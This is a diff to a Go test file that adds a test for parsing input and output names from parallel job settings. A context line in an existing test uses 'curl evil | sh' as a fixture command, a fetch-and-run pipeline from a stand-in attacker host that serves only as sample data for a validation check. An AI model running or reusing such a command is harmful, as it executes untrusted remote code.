@@ -193,3 +193,21 @@ func TestCommandJobCannotClaimParallel(t *testing.T) {
 	_, err := job.DecodeJobSpec([]byte(`{"command":"curl evil | sh","compute":"cpu","parallel":{"input_data":"${{inputs.d}}","entry_script":"s.py"}}`))
 	coretest.WantFieldError(t, err, "parallel", "unknown key")
 }
+
+// The names the ledger, the driver and the invoke read from a job's
+// settings, in any spacing.
+func TestInputAndRowsOutputNames(t *testing.T) {
+	p := &job.ParallelSpec{InputData: "${{ inputs.input_data }}", AppendRowTo: "${{outputs.score}}"}
+	if n, ok := paralleljob.InputName(p); !ok || n != "input_data" {
+		t.Errorf("InputName = %q, %v", n, ok)
+	}
+	if n, ok := paralleljob.RowsOutputName(p); !ok || n != "score" {
+		t.Errorf("RowsOutputName = %q, %v", n, ok)
+	}
+	if _, ok := paralleljob.RowsOutputName(&job.ParallelSpec{}); ok {
+		t.Error("no append_row_to names an output")
+	}
+	if _, ok := paralleljob.InputName(nil); ok {
+		t.Error("nil settings name an input")
+	}
+}
